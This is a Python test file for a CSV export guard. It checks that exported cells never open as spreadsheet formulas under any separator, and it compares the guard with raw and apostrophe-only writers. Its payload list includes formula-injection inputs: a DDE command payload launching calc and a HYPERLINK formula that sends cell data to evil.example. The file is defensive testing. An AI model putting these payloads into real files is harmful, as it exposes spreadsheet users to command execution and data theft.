"""Cells that no spreadsheet computes, whatever separator it splits the file by."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from server.exports.formats import BOM, cell_text, csv_lines, guard_formula

SEPARATORS = [",", ";", "\t", "|"]
BEGINNINGS = "=+-@\0\t\r＝＋－＠"
PAYLOADS = [
    *["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\0=1+1"],
    *["＝1+1", "＋1", "－1", "＠SUM(1)", " =1+1", "   +1", '"=1+1', '""=1+1'],
    *["x,=1+1", "x;=1+1", "x|=1+1", "x\t=1+1", "x\n=1+1", "x\r=1+1", 'x";=1+1', 'x","=1+1', 'x";"=1+1'],
    *["x; =1+1", 'x;"@SUM(1)', "x;;=1", ";=1", ",,,-1", "==1", "=-@+1", '=cmd|"/C calc"!A0'],
    *['=HYPERLINK("http://evil.example?"&A1;"x")', "@import\t=1", "x;\t=1", "x\r\t=1", "x;\0=1", "-"],
]
INNOCENT = [
    *["Անի Գևորգյան", "“Pink” human rights NGO", "O’Neil", "d'Arc", "Anna-Maria", "a=b", "2+2", "me@home", "İlham"],
    *["Women's; Lakes", "x - y", "D. Aliyeva, Baku", "'quoted'", '"quoted"', "", " ", "გიორგი\nბათუმი"],
]


def opened(lines: bytes, separator: str) -> list[str]:
    """What a spreadsheet that splits by ``separator`` has in its cells."""
    text = lines.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]


def split_bluntly(lines: bytes, separator: str) -> list[str]:
    """What is left when somebody splits lines and cells and knows nothing of quotes."""
    text = lines.decode("utf-8-sig").replace("\r", "\n")
    return [cell for line in text.split("\n") for cell in line.split(separator)]


def is_formula(cell: str) -> bool:
    bare = cell.lstrip(' "')
    return bare[:1] in tuple(BEGINNINGS)


def formulas(lines: bytes) -> list[str]:
    return [
        cell
        for separator in SEPARATORS
        for cell in opened(lines, separator) + split_bluntly(lines, separator)
        if is_formula(cell)
    ]


def raw_lines(rows: list[list[str]]) -> bytes:
    """What Pytition and many others write."""
    file = io.StringIO()
    csv.writer(file).writerows(rows)
    return file.getvalue().encode()


def owasp_lines(rows: list[list[str]]) -> bytes:
    """The usual advice: an apostrophe before a cell that begins like a formula."""
    guarded = [["'" + cell if cell[:1] in tuple("=+-@\t\r") else cell for cell in row] for row in rows]
    return raw_lines(guarded)


def around(payload: str) -> list[list[str]]:
    return [["1", payload, "end"], [payload, "middle", payload]]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_is_a_formula_under_any_separator(payload):
    assert formulas(b"".join(csv_lines(around(payload)))) == []


def test_a_raw_writer_and_the_usual_advice_are_caught_by_the_same_check():
    raw = [payload for payload in PAYLOADS if formulas(raw_lines(around(payload)))]
    usual = [payload for payload in PAYLOADS if formulas(owasp_lines(around(payload)))]

    assert raw == PAYLOADS
    assert {"x;=1+1", "x\t=1+1", " =1+1", "＝1+1", "\0=1+1"} <= set(usual)


@given(st.lists(st.text(alphabet="=+-@;,|\"' \t\r\n\0＝a1é", max_size=12), min_size=1, max_size=4))
def test_nothing_that_can_be_typed_is_a_formula(cells):
    assert formulas(b"".join(csv_lines([["1", *cells, "end"]]))) == []


@pytest.mark.parametrize("text", INNOCENT)
def test_what_people_write_is_left_as_it_is(text):
    assert guard_formula(text) == text


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=20), min_size=1, max_size=5))
def test_a_reader_of_csv_gets_every_cell_back_apart_from_the_apostrophes(cells):
    [*lines] = csv_lines([cells, cells])
    read = list(csv.reader(io.StringIO(b"".join(lines).decode("utf-8-sig"), newline="")))

    assert read == [[guard_formula(cell) for cell in cells]] * 2
    assert [guard_formula(cell).replace("'", "") for cell in cells] == [cell.replace("'", "") for cell in cells]


@given(
    st.lists(st.none() | st.integers() | st.text(alphabet="=-;,|\"' \t\r\n\0a1é", max_size=4), min_size=1, max_size=4)
)
def test_csv_is_what_the_csv_module_writes_of_guarded_cells(cells):
    file = io.StringIO()
    csv.writer(file, quoting=csv.QUOTE_ALL).writerow(map(cell_text, cells))

    assert b"".join(csv_lines([cells])) == (BOM + file.getvalue()).encode()


@given(st.text())
def test_a_harmless_text_stays_harmless(text):
    assert all(not is_formula(part) for part in guard_formula(text).split(";"))
    assert guard_formula(text)[:1] not in tuple(BEGINNINGS)


def test_only_the_first_line_has_the_mark():
    first, second = csv_lines([["a", 'b"c'], ["d", "e"]])

    assert first == (BOM + '"a","b""c"\r\n').encode()
    assert second == b'"d","e"\r\n'


def test_lines_are_made_one_at_a_time():
    asked = []

    def rows():
        for number in range(3):
            asked.append(number)
            yield [str(number)]

    lines = csv_lines(rows())
    next(lines)

    assert asked == [0]
